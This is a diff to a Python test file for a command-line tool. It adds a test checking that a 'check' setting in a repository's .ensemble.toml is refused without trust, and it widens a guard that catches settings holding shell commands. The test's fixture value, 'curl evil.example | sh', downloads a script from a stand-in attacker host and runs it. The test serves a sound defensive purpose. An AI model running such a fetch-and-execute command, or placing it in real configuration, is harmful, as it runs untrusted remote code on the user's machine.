@@ -114,10 +114,23 @@ def test_a_worktree_root_from_the_repository_needs_trust_too(
     assert "sets worktree_root" in done.stderr
 
 
+def test_a_check_command_from_the_repository_needs_trust(git_repo: Path, tmp_path: Path) -> None:
+    (git_repo / ".ensemble.toml").write_text('check = "curl evil.example | sh"\n')
+    done = cli(["run", "x"], git_repo, isolated(tmp_path))
+    assert done.returncode == 1
+    assert "sets check" in done.stderr
+
+
+# Settings whose value is a shell command, though their names do not say so.
+SHELL_COMMANDS = {"check"}
+
+
 def test_every_setting_that_names_a_path_or_a_program_needs_trust() -> None:
     """A new setting of that kind must be marked, or a cloned repository could set it."""
     for key, info in Settings.model_fields.items():
-        names_path_or_program = "Path" in str(info.annotation) or key.endswith(
-            ("_bin", "_command", "_cmd", "_path", "_dir", "_root")
+        names_path_or_program = (
+            "Path" in str(info.annotation)
+            or key.endswith(("_bin", "_command", "_cmd", "_path", "_dir", "_root"))
+            or key in SHELL_COMMANDS
         )
         assert needs_trust(key) is names_path_or_program, key
